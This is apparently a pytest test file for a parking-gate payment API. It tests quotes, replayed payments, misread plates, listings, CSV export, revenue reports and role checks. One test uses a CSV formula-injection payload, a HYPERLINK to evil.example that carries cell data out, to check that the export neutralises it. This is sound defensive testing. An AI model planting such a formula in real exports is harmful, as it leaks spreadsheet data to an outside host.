"""Quote and pay: what is owed, a payment recorded once however often the pay station retries it."""
from __future__ import annotations

import pytest
from gate_support import at

from gate.rules.codes import Lane, Role

PLATE = "12-345-67"


def enter(api, minutes=0.0, plate=PLATE):
    api.app.state.ledger.decide(Lane.ENTRY, plate, at=at(minutes))


def z(minutes):
    return at(minutes).isoformat().replace("+00:00", "Z")


def test_a_quote_is_the_amount_due_at_an_exit_then_and_the_visit(api, as_role):
    enter(api)
    response = api.get("/api/quote", params={"plate": "1234567", "at": z(90)}, headers=as_role[Role.PAY_STATION])
    assert response.status_code == 200
    quote = response.json()
    assert (quote["plate"], quote["at"], quote["amount_due"], quote["paid_until"]) == ("1234567", z(90), 24.0, None)
    assert quote["visit"]["entry_at"] == z(0) and quote["visit"]["state"] == "open"


def test_after_paying_the_quote_is_zero_until_the_grace_period_ends(api, as_role):
    enter(api)
    pay = {"plate": PLATE, "payment_id": "ps1-0001", "at": z(110)}  # two hours' fee, paid near their end
    assert api.post("/api/payments", json=pay, headers=as_role[Role.PAY_STATION]).status_code == 200
    quote = api.get("/api/quote", params={"plate": PLATE, "at": z(112)}, headers=as_role[Role.PAY_STATION]).json()
    assert (quote["amount_due"], quote["paid_until"], quote["visit"]["paid"]) == (0.0, z(125), 24.0)


def test_a_replayed_payment_returns_the_first_receipt_and_pays_nothing_more(api, as_role):
    enter(api)
    headers = as_role[Role.PAY_STATION]
    first = api.post("/api/payments", json={"plate": PLATE, "payment_id": "ps1-0001", "at": z(90)}, headers=headers)
    replay = api.post("/api/payments", json={"plate": "1234567", "payment_id": "ps1-0001", "at": z(200)}, headers=headers)
    assert first.status_code == replay.status_code == 200
    assert first.json()["replayed"] is False and replay.json()["replayed"] is True
    assert {**replay.json(), "replayed": False} == first.json()
    assert first.json()["paid_at"] == z(90) and first.json()["leave_by"] == z(120)  # two hours paid for


def test_a_payment_id_replayed_for_another_plate_is_a_409(api, as_role):
    enter(api)
    enter(api, plate="7654321")
    headers = as_role[Role.PAY_STATION]
    api.post("/api/payments", json={"plate": PLATE, "payment_id": "ps1-0001", "at": z(90)}, headers=headers)
    conflict = api.post("/api/payments", json={"plate": "7654321", "payment_id": "ps1-0001", "at": z(91)}, headers=headers)
    assert conflict.status_code == 409
    assert conflict.json() == {"detail": "payment id 'ps1-0001' was already used for plate 1234567"}


def test_no_open_visit_is_a_404(api, as_role):
    headers = as_role[Role.PAY_STATION]
    assert api.get("/api/quote", params={"plate": PLATE}, headers=headers).json() == {
        "detail": "no open visit for plate 12-345-67"
    }
    assert api.post("/api/payments", json={"plate": PLATE, "payment_id": "x"}, headers=headers).status_code == 404


def test_a_payment_before_the_entry_is_a_409(api, as_role):
    enter(api, minutes=60)
    response = api.post("/api/payments", json={"plate": PLATE, "payment_id": "x", "at": z(0)}, headers=as_role[Role.PAY_STATION])
    assert response.status_code == 409 and "before the entry" in response.json()["detail"]


MISREAD = "12-345-61"


def test_a_misread_entry_is_quoted_as_a_candidate_then_paid_by_visit_id_and_the_exit_opens(api, as_role):
    enter(api, plate=MISREAD)
    enter(api, plate="7654321")
    headers = as_role[Role.PAY_STATION]
    quote = api.get("/api/quote", params={"plate": PLATE, "at": z(90)}, headers=headers)
    assert quote.status_code == 200
    body = quote.json()
    assert (body["visit"], body["amount_due"]) == (None, None)
    assert body["candidates"] == [
        {"visit_id": 1, "plate": "1234561", "entry_at": z(0), "entry_evidence_id": None, "amount_due": 24.0}
    ]
    paid = api.post("/api/payments", json={"plate": PLATE, "payment_id": "ps1-7", "at": z(91), "visit_id": 1},
                    headers=headers).json()
    assert (paid["visit_id"], paid["plate"], paid["typed_plate"], paid["amount"]) == (1, "1234561", "1234567", 24.0)
    exit_ = api.app.state.ledger.decide("exit", PLATE, at=at(95))
    assert exit_.opens and exit_.visit_id == 1


def test_paying_a_visit_that_is_not_a_candidate_is_a_409_and_an_unknown_one_a_404(api, as_role):
    enter(api, plate="7654321")
    headers = as_role[Role.PAY_STATION]
    far = api.post("/api/payments", json={"plate": PLATE, "payment_id": "a", "visit_id": 1}, headers=headers)
    assert far.status_code == 409 and "is not a candidate for plate 12-345-67" in far.json()["detail"]
    unknown = api.post("/api/payments", json={"plate": PLATE, "payment_id": "b", "visit_id": 99}, headers=headers)
    assert (unknown.status_code, unknown.json()) == (404, {"detail": "no visit 99"})
    zero = api.post("/api/payments", json={"plate": PLATE, "payment_id": "c", "visit_id": 0}, headers=headers)
    assert zero.status_code == 422 and zero.json()["detail"].startswith("visit_id: ")


def pay_three(api, headers):
    for i, plate in enumerate(["1111111", "2222222", "3333333"]):
        enter(api, i, plate=plate)
        api.post("/api/payments", json={"plate": plate, "payment_id": f"p{i}", "at": z(90 + i)}, headers=headers)


def test_payments_are_listed_in_a_range_with_their_count_and_sum(api, as_role):
    pay_three(api, as_role[Role.PAY_STATION])
    page = api.get("/api/payments", params={"since": z(91), "until": z(300), "limit": 1},
                   headers=as_role[Role.VIEWER]).json()
    assert [p["payment_id"] for p in page["payments"]] == ["p1"]
    assert (page["total"], page["total_amount"], page["currency"], page["next_offset"]) == (2, 48.0, "ILS", 1)
    assert page["payments"][0]["paid_at"] == z(91) and page["payments"][0]["typed_plate"] is None


def test_payments_as_csv_are_in_local_time(api, as_role):
    pay_three(api, as_role[Role.PAY_STATION])
    response = api.get("/api/payments", params={"format": "csv", "until": "2025-03-02T11:31:00"},  # local, no offset
                       headers=as_role[Role.VIEWER])
    assert response.text.splitlines() == [
        "id,payment_id,visit_id,plate,typed_plate,amount,fee,paid_at",
        "1,p0,1,1111111,,24.00,24.00,2025-03-02 11:30:00+02:00",
    ]


def test_a_payment_id_that_is_a_formula_is_exported_as_text(api, as_role):
    enter(api)
    formula = '=HYPERLINK("http://evil.example/?"&D2,"Receipt")'
    paid = api.post("/api/payments", json={"plate": PLATE, "payment_id": formula, "at": z(90)},
                    headers=as_role[Role.PAY_STATION])
    assert paid.status_code == 200 and paid.json()["payment_id"] == formula  # the JSON keeps it as sent
    rows = api.get("/api/payments", params={"format": "csv"}, headers=as_role[Role.VIEWER]).text.splitlines()
    assert rows[1].startswith('1,"\'=HYPERLINK(""http://evil.example/?""&D2,""Receipt"")",1,1234567,')


def test_revenue_is_summed_from_payments_by_local_day(api, as_role):
    pay_three(api, as_role[Role.PAY_STATION])
    report = api.get("/api/reports/revenue", params={"from": "2025-03-01", "to": "2025-03-02"},
                     headers=as_role[Role.VIEWER])
    assert report.status_code == 200
    body = report.json()
    assert (body["from"], body["to"], body["by"], body["timezone"]) == ("2025-03-01", "2025-03-02", "day",
                                                                        "Asia/Jerusalem")
    assert body["rows"] == [{"period": "2025-03-01", "payments": 0, "amount": 0.0},
                            {"period": "2025-03-02", "payments": 3, "amount": 72.0}]
    assert (body["total_payments"], body["total_amount"]) == (3, 72.0)

    month = api.get("/api/reports/revenue", params={"from": "2025-03-01", "by": "month"},
                    headers=as_role[Role.VIEWER]).json()
    assert (month["to"], month["rows"]) == ("2025-03-31", [{"period": "2025-03-01", "payments": 3, "amount": 72.0}])


@pytest.mark.parametrize(
    ("params", "field"),
    [({"from": "yesterday"}, "from"), ({"from": "1999-12-31"}, "from"), ({"from": "2025-03-02", "to": "2025-03-01"}, "to"),
     ({"by": "week"}, "by"), ({"from": "0001-01-01", "to": "0001-01-02"}, "from"),
     ({"from": "2025-03-01", "to": "9999-12-31"}, "a report of"), ({"from": "9999-12-30", "to": "9999-12-31"}, "from"),
     ({"from": "2025-03-01", "to": "9999-12-31", "by": "month"}, "a report of")],
)
def test_a_bad_report_range_is_a_422_naming_the_field(api, as_role, params, field):
    response = api.get("/api/reports/revenue", params=params, headers=as_role[Role.VIEWER])
    assert response.status_code == 422 and response.json()["detail"].startswith(f"{field}"), response.json()


def test_the_pay_station_may_not_list_payments_and_anyone_may_read_the_tariff(api, as_role):
    assert api.get("/api/payments", headers=as_role[Role.PAY_STATION]).status_code == 403
    tariff = api.get("/api/tariff", headers=as_role[Role.CAMERA])
    assert tariff.status_code == 200
    assert (tariff.json()["tariff"]["hourly_rate"], tariff.json()["timezone"]) == (12.0, "Asia/Jerusalem")
